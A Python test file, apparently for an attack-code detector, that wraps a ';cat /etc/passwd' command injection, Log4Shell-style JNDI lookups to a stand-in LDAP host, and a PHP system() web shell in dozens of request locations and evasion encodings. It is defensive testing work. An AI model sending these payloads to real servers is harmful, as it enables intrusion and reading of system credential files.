#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""One attack in every place of a request and written in every way: what the code is, does not change.

usage: written.py BUILD [NAME…]
The ways are Python's own: its encoders say how bytes are written, not we.
"""
import base64, gzip, io, json, os, sys, tempfile, urllib.parse as u, zipfile, zlib

sys.path.insert(0, os.path.join(os.path.dirname(os.path.realpath(__file__)), '..', 'support'))
import konseki
from tap import Tap

C = ';cat /etc/passwd'
q = u.quote
b = base64.b64encode


def get(target, headers=''):
    return f'GET {target} HTTP/1.1\r\nHost: a\r\n{headers}\r\n'.encode('latin1')


def post(body, kind, headers=''):
    body = body.encode() if isinstance(body, str) else body
    return f'POST /x HTTP/1.1\r\nHost: a\r\nContent-Type: {kind}\r\nContent-Length: {len(body)}\r\n{headers}\r\n'.encode() + body


def http_post(target, body):
    return f'POST {target} HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: {len(body)}\r\n\r\n{body}'.encode()


def zipped(name, text, method=zipfile.ZIP_DEFLATED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, 'w', method) as made:
        made.writestr('readme.txt', 'nothing here\n' * 9)
        made.writestr(name, text)
    return out.getvalue()


def codes(raw):
    with tempfile.NamedTemporaryFile() as file:
        file.write(raw)
        file.flush()
        done = konseki.konseki('extract', '--json', file.name)
    return [c for c in json.loads(done.stdout or '{}').get('attack_code', []) if c['language'] in ('shell', 'jndi', 'php')]


# name, the request
WRITTEN = [
    ('path segment',get('/x/'+q('a'+C,safe='')+'/y')),
    ('path param',get('/x;name='+q('a|cat /etc/passwd',safe='')+'/y')),
    ('query',get('/x?a=1&b='+q('z'+C))),
    ('query semicolon sep',get('/x?a=1;b='+q('z|cat /etc/passwd'))),
    ('bare query',get('/x?'+q('z'+C))),
    ('double enc',get('/x?b='+q(q('z'+C,safe=''),safe=''))),
    ('triple enc',get('/x?b='+q(q(q('z'+C,safe=''),safe=''),safe=''))),
    ('%u',get('/x?b=z%u003bcat%u0020%u002fetc%u002fpasswd')),
    ('overlong',get('/x?b=z;cat%20%c0%afetc%c0%afpasswd')),
    ('fullwidth',get('/x?b='+q('z；cat ／etc／passwd'))),
    ('html ent',get('/x?b='+q('z&#59;cat&#32;&#x2f;etc/passwd'))),
    ('json esc',post('{"a":"z\\u003bcat \\/etc\\/passwd"}','application/json')),
    ('json key',post('{"z;cat /etc/passwd":1}','application/json')),
    ('json in json',post(json.dumps({'a':json.dumps({'b':'z'+C})}),'application/json')),
    ('json in form',post('data='+q(json.dumps({'b':'z'+C})),'application/x-www-form-urlencoded')),
    ('json in query',get('/x?data='+q(json.dumps({'b':'z'+C})))),
    ('xml text',post('<a><b>z;cat /etc/passwd</b></a>','text/xml')),
    ('xml attr',post('<a b="z;cat /etc/passwd"/>','text/xml')),
    ('xml attr single',post("<a b='z;cat /etc/passwd'/>",'text/xml')),
    ('xml cdata',post('<a><![CDATA[z;cat /etc/passwd]]></a>','text/xml')),
    ('xml cdata lt',post('<a><![CDATA[z<b;cat /etc/passwd]]></a>','text/xml')),
    ('soap ent',post('<s:Envelope><s:Body><x>z&#x3b;cat /etc/passwd</x></s:Body></s:Envelope>','application/soap+xml')),
    ('xml comment',post('<a><!-- z;cat /etc/passwd --></a>','text/xml')),
    ('b64 param',get('/x?b='+q(b(('z'+C).encode()).decode()))),
    ('b64 nopad',get('/x?b='+b(('zz'+C+' x').encode()).decode().rstrip('='))),
    ('b64url',get('/x?b='+base64.urlsafe_b64encode(('z??>>'+C).encode()).decode())),
    ('b64 in json',post(json.dumps({'a':b(('z'+C).encode()).decode()}),'application/json')),
    ('b64 of json',get('/x?b='+q(b(json.dumps({'q':'z'+C}).encode()).decode()))),
    ('b64 inside value',get('/x?b='+q('data:text/plain;base64,'+b(('z'+C).encode()).decode()))),
    ('b64 twice',get('/x?b='+q(b(b(('z'+C).encode())).decode()))),
    ('hex',get('/x?b='+('z'+C).encode().hex())),
    ('0x hex',get('/x?b=0x'+('z'+C).encode().hex())),
    ('\\x',get('/x?b='+q(''.join('\\x%02x'%c for c in ('z'+C).encode())))),
    ('octal',get('/x?b='+q(''.join('\\%03o'%c for c in ('z'+C).encode())))),
    ('cookie',get('/','Cookie: s=1; b='+q('z'+C)+'\r\n')),
    ('cookie b64',get('/','Cookie: s='+q(b(('z'+C).encode()).decode())+'\r\n')),
    ('cookie b64 raw',get('/','Cookie: s='+b(('zz'+C).encode()).decode()+'\r\n')),
    ('jndi any header',get('/','X-Any: ${jndi:ldap://h.example/a}\r\n')),
    ('header name',get('/','${jndi:ldap://h.example/a}: x\r\n')),
    ('jndi basic auth',get('/','Authorization: Basic '+b(b'${jndi:ldap://h.example/a}:x').decode()+'\r\n')),
    ('header cmd',get('/','X-Forwarded-For: 1.1.1.1;cat /etc/passwd\r\n')),
    ('host',b'GET / HTTP/1.1\r\nHost: a;cat /etc/passwd\r\n\r\n'),
    ('method',b'${jndi:ldap://h.example/a} / HTTP/1.1\r\nHost: a\r\n\r\n'),
    ('referer query',get('/','Referer: http://a/x?b='+q('z'+C)+'\r\n')),
    ('form',post('a=1&b='+q('z'+C),'application/x-www-form-urlencoded')),
    ('form plus',post('a=1&b=z%3Bcat+/etc/passwd','application/x-www-form-urlencoded')),
    ('form name',post(q('z'+C)+'=1','application/x-www-form-urlencoded')),
    ('form bracket',post('a%5Bb%5D='+q('z'+C),'application/x-www-form-urlencoded')),
    ('form charset utf16',post(''.join('%%%02x'%c for c in ('b=z'+C).encode('utf-16-be')),'application/x-www-form-urlencoded; charset=utf-16be')),
    ('ibm037',post(('b='+u.quote_from_bytes(('z'+C).encode('cp037'))).encode(),'application/x-www-form-urlencoded; charset=ibm037')),
    ('ibm037 all',post(('b=z'+C).encode('cp037'),'application/x-www-form-urlencoded; charset=ibm037')),
    ('utf7',get('/x?b='+q('z'+C.encode('utf-7').decode().replace(';','+ADs-')))),
    ('utf16 json',post(json.dumps({'a':'z'+C}).encode('utf-16'),'application/json; charset=utf-16')),
    ('gzip body',post(gzip.compress(('b='+q('z'+C)).encode()),'application/x-www-form-urlencoded','Content-Encoding: gzip\r\n')),
    ('gzip json',post(gzip.compress(json.dumps({'a':'z'+C}).encode()),'application/json','Content-Encoding: gzip\r\n')),
    ('deflate json',post(zlib.compress(json.dumps({'a':'z'+C}).encode()),'application/json','Content-Encoding: deflate\r\n')),
    ('raw deflate json',post(zlib.compress(json.dumps({'a':'z'+C}).encode())[2:-4],'application/json','Content-Encoding: deflate\r\n')),
    ('b64 gzip',get('/x?b='+q(b(gzip.compress(('z'+C).encode())).decode()))),
    ('multipart',post('--b\r\nContent-Disposition: form-data; name="a"\r\n\r\nz;cat /etc/passwd\r\n--b--\r\n','multipart/form-data; boundary=b')),
    ('multipart quoted',post('--b c\r\nContent-Disposition: form-data; name="a"\r\n\r\nz;cat /etc/passwd\r\n--b c--\r\n','multipart/form-data; boundary="b c"')),
    ('multipart nofinal',post('--b\r\nContent-Disposition: form-data; name="a"\r\n\r\nz;cat /etc/passwd','multipart/form-data; boundary=b')),
    ('multipart name',post('--b\r\nContent-Disposition: form-data; name="z;cat /etc/passwd"\r\n\r\nx\r\n--b--\r\n','multipart/form-data; boundary=b')),
    ('multipart filename',post('--b\r\nContent-Disposition: form-data; name="a"; filename="z;cat /etc/passwd"\r\n\r\nx\r\n--b--\r\n','multipart/form-data; boundary=b')),
    ('multipart filename*',post("--b\r\nContent-Disposition: form-data; name=\"a\"; filename*=UTF-8''z%3Bcat%20%2Fetc%2Fpasswd\r\n\r\nx\r\n--b--\r\n",'multipart/form-data; boundary=b')),
    ('multipart lf',post('--b\nContent-Disposition: form-data; name="a"\n\nz;cat /etc/passwd\n--b--\n','multipart/form-data; boundary=b')),
    ('multipart Boundary case',post('--b\r\nContent-Disposition: form-data; name="a"\r\n\r\nz;cat /etc/passwd\r\n--b--\r\n','Multipart/Form-Data; BOUNDARY=b')),
    ('multipart b64 cte',post('--b\r\nContent-Disposition: form-data; name="a"\r\nContent-Transfer-Encoding: base64\r\n\r\n'+b(('z'+C).encode()).decode()+'\r\n--b--\r\n','multipart/form-data; boundary=b')),
    ('multipart json part',post('--b\r\nContent-Disposition: form-data; name="a"\r\nContent-Type: application/json\r\n\r\n{"q":"z;cat /etc/passwd"}\r\n--b--\r\n','multipart/form-data; boundary=b')),
    ('chunked',b'POST /x HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-www-form-urlencoded\r\nTransfer-Encoding: chunked\r\n\r\n'+b'6\r\nb=z%3B\r\nf\r\ncat+/etc/passwd\r\n0\r\n\r\n'),
    ('text/plain body',post('z;cat /etc/passwd','text/plain')),
    ('raw body no type',post('z;cat /etc/passwd','application/octet-stream')),
    ('graphql var',post(json.dumps({'query':'query($a:String){x(a:$a)}','variables':{'a':'z'+C}}),'application/json')),
    ('graphql inline',post(json.dumps({'query':'{x(a:"z;cat /etc/passwd"){id}}'}),'application/json')),
    ('graphql ct',post('{x(a:"z;cat /etc/passwd"){id}}','application/graphql')),
    ('ifs',get('/x?b='+q('z;cat${IFS}/etc/passwd'))),
    ('quotes',get('/x?b='+q("z;c'a't /e't'c/pass\"w\"d"))),
    ('url in param',get('/x?u='+q('http://h/y?c='+q('z'+C)))),
    ('csv body',post('id,name\n1,z;cat /etc/passwd\n','text/csv')),
    ('yaml body',post('a: z;cat /etc/passwd\n','application/yaml')),
    ('ndjson',post('{"a":1}\n{"a":"z;cat /etc/passwd"}\n','application/x-ndjson')),
    ('repeated, joined by nothing',get('/x?b='+q('z;cat /etc')+'&c=1&b='+q('/passwd'))),
    ('repeated, joined by a comma',get('/x?b='+q('z;cat {/etc/passwd')+'&b='+q('/etc/group}'))),
    ('repeated in query and body',http_post('/x?b='+q('z;ca'),'b='+q('t /etc/passwd'))),
    ('zip with a page',post(zipped('a/b.php','<?php system("cat /etc/passwd");?>'),'application/zip')),
    ('zip with a page, stored',post(zipped('a/b.php','<?php system("cat /etc/passwd");?>',0),'application/zip')),
    ('zip in a part',post(b'--b\r\nContent-Disposition: form-data; name="f"; filename="p.zip"\r\nContent-Type: application/zip\r\n\r\n'+zipped('a/b.php','<?php system("cat /etc/passwd");?>')+b'\r\n--b--\r\n','multipart/form-data; boundary=b')),
    ('raw jndi',b'USER ${jndi:ldap://h.example/a}\r\n'),
    ('multipart no ct hdr',post('--b\r\nContent-Disposition: form-data; name="a"\r\n\r\nz;cat /etc/passwd\r\n--b--\r\n','text/html')),
]


def main():
    tap = Tap()
    for name, raw in WRITTEN:
        if sys.argv[2:] and name not in sys.argv[2:]:
            continue
        found = codes(raw)
        texts = [c.get('text', '').replace('"', '').replace("'", '') for c in found]
        tap.ok(any('/etc' in t or 'passwd' in t or 'jndi' in t for t in texts), name, found)
    tap.done()


main()
